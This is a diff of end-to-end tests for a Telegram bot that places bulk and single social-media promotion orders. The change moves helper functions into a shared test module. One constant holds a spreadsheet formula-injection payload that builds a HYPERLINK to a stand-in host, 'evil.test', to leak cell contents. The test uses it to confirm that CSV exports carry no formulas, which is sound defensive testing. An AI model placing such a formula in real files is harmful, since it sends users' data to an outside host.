@@ -18,7 +18,7 @@ from pathlib import Path
 from bot.callbacks.base import decode, encode
 from bot.callbacks.bulk import ConfirmBulk, ConfirmBulkFirst
 from bot.storage.models import SubmitState
-from tests.e2e.steps import dialog, labels, text_of
+from tests.e2e.steps import confirm, csv_rows, dialog, labels, open_bulk, preview_for, text_of
 from tests.fakes.panel import Fault
 from tests.fakes.panel_catalog import default_services
 from tests.fakes.telegram import BotMessage, FakeUser
@@ -29,21 +29,9 @@ UID = 7301
 FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Instagram")'
 
 
-def csv_rows(msg: BotMessage) -> list[dict[str, str]]:
-    assert msg.document is not None, msg.describe()
-    return list(csv.DictReader(io.StringIO(msg.document.content.decode("utf-8-sig"))))
-
-
 def lines_of(n: int, *, service: int = 1, quantity: int = 100) -> list[str]:
     # Service 1 costs 12.50 per 1000: 100 each is 1.25 a line.
     return [f"{service} | https://instagram.com/u{i} | {quantity}" for i in range(n)]
-
-
-async def open_bulk(bot: Harness, *, balance: str) -> FakeUser:
-    u = await bot.member(UID, key=KEY, balance=balance)
-    await u.send("/bulk")
-    await u.reply()
-    return u
 
 
 async def preview_with_check(u: FakeUser, lines: list[str]) -> tuple[BotMessage, BotMessage]:
@@ -67,7 +55,7 @@ async def result_and_file(u: FakeUser) -> tuple[BotMessage, BotMessage]:
 
 
 async def test_short_balance_offers_the_first_n_and_places_exactly_those(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="5.00")
+    u = await open_bulk(bot, balance="5.00", uid=UID, key=KEY)
     preview, check = await preview_with_check(u, lines_of(150))
     text = text_of(preview)
     assert "150 valid orders of 150 lines" in text
@@ -115,7 +103,7 @@ async def test_short_balance_offers_the_first_n_and_places_exactly_those(bot: Ha
 
 
 async def test_short_balance_covering_nothing_offers_only_cancel(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="1.00")
+    u = await open_bulk(bot, balance="1.00", uid=UID, key=KEY)
     await u.send("\n".join(lines_of(3)))
     preview = await u.reply()
     text = text_of(preview)
@@ -127,7 +115,7 @@ async def test_short_balance_covering_nothing_offers_only_cancel(bot: Harness) -
 
 
 async def test_forged_first_n_counts(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="5.00")
+    u = await open_bulk(bot, balance="5.00", uid=UID, key=KEY)
     await u.send("\n".join(lines_of(5)))
     preview = await u.reply()
     data = preview.buttons()[0][1]
@@ -154,7 +142,7 @@ async def test_forged_first_n_counts(bot: Harness) -> None:
 
 
 async def test_result_groups_identical_panel_errors(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="1000")
+    u = await open_bulk(bot, balance="1000", uid=UID, key=KEY)
     preview, _ = await preview_with_check(u, lines_of(150))
     # The balance drops after the preview: the panel refuses the first chunk of 100 whole.
     bot.panel.set_balance(KEY, "5.00")
@@ -180,7 +168,7 @@ async def test_result_groups_identical_panel_errors(bot: Harness) -> None:
 async def test_preview_of_more_than_ten_lines_lists_every_line_with_its_cost(
     bot: Harness,
 ) -> None:
-    u = await open_bulk(bot, balance="100")
+    u = await open_bulk(bot, balance="100", uid=UID, key=KEY)
     lines = [*lines_of(11), "6 | https://youtube.com/watch?v=x | 1000"]
     preview, check = await preview_with_check(u, lines)
     text = text_of(preview)
@@ -196,28 +184,10 @@ async def test_preview_of_more_than_ten_lines_lists_every_line_with_its_cost(
     assert any("Confirm 12 valid orders" in label for label in labels(preview))
 
 
-async def single_order(u: FakeUser, service: int, link: str, quantity: str) -> BotMessage:
-    await u.send(f"/order {service}")
-    await u.reply()
-    await u.send(link)
-    await u.reply()
-    await u.send(quantity)
-    preview = await u.reply()
-    assert any("Confirm" in label for label in labels(preview)), text_of(preview)
-    return preview
-
-
-async def confirm_single(u: FakeUser, preview: BotMessage) -> BotMessage:
-    await u.press("Confirm", message=preview)
-    sending = await u.update()
-    assert sending.message_id == preview.message_id
-    return await u.update()
-
-
 async def test_placed_message_shows_the_charge_and_the_balance_after(bot: Harness) -> None:
     u = await bot.member(UID, key=KEY, balance="100")
-    preview = await single_order(u, 1, "instagram.com/spend", "1000")
-    result = await confirm_single(u, preview)
+    preview = await preview_for(u, 1, "instagram.com/spend", "1000")
+    result = await confirm(u, preview)
     text = text_of(result)
     assert "✅ Order placed: #" in text
     assert "Charge: $12.50" in text
@@ -229,9 +199,9 @@ async def test_placed_message_keeps_the_charge_when_the_balance_cannot_be_read(
     bot: Harness,
 ) -> None:
     u = await bot.member(UID, key=KEY, balance="100")
-    preview = await single_order(u, 6, "https://youtube.com/watch?v=spend", "1000")
+    preview = await preview_for(u, 6, "https://youtube.com/watch?v=spend", "1000")
     bot.panel.inject(Fault.http_500(), action="balance", times=None)
-    result = await confirm_single(u, preview)
+    result = await confirm(u, preview)
     bot.panel.clear_faults()
     text = text_of(result)
     assert "✅ Order placed: #" in text and "Charge: $2.75" in text
@@ -248,7 +218,7 @@ async def test_export_holds_what_orders_shows_with_human_states_and_no_formulas(
             s["name"] = FORMULA
     bot.panel.set_services(services)
     u = await bot.member(UID, key=KEY, balance="100")
-    result = await confirm_single(u, await single_order(u, 1, "instagram.com/one", "1000"))
+    result = await confirm(u, await preview_for(u, 1, "instagram.com/one", "1000"))
     assert "Order placed" in text_of(result)
 
     # A bulk list the panel refuses whole: its lines are not orders.
@@ -329,7 +299,7 @@ async def check_result_lists_rejected_lines(
 
 
 async def test_result_and_csv_list_lines_that_failed_the_check(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="1000")
+    u = await open_bulk(bot, balance="1000", uid=UID, key=KEY)
     preview, _ = await preview_with_check(u, mixed_list())
     assert "32 valid orders of 35 lines" in text_of(preview)
     await u.press("Confirm 32 valid orders", message=preview)
@@ -340,7 +310,7 @@ async def test_result_and_csv_list_lines_that_failed_the_check(bot: Harness) -> 
 
 async def test_rejected_lines_survive_a_restart_before_confirm(tmp_path: Path) -> None:
     async with running_bot(tmp_path) as bot:
-        u = await open_bulk(bot, balance="1000")
+        u = await open_bulk(bot, balance="1000", uid=UID, key=KEY)
         preview, _ = await preview_with_check(u, mixed_list())
         await bot.restart()
         await u.press("Confirm 32 valid orders", message=preview)
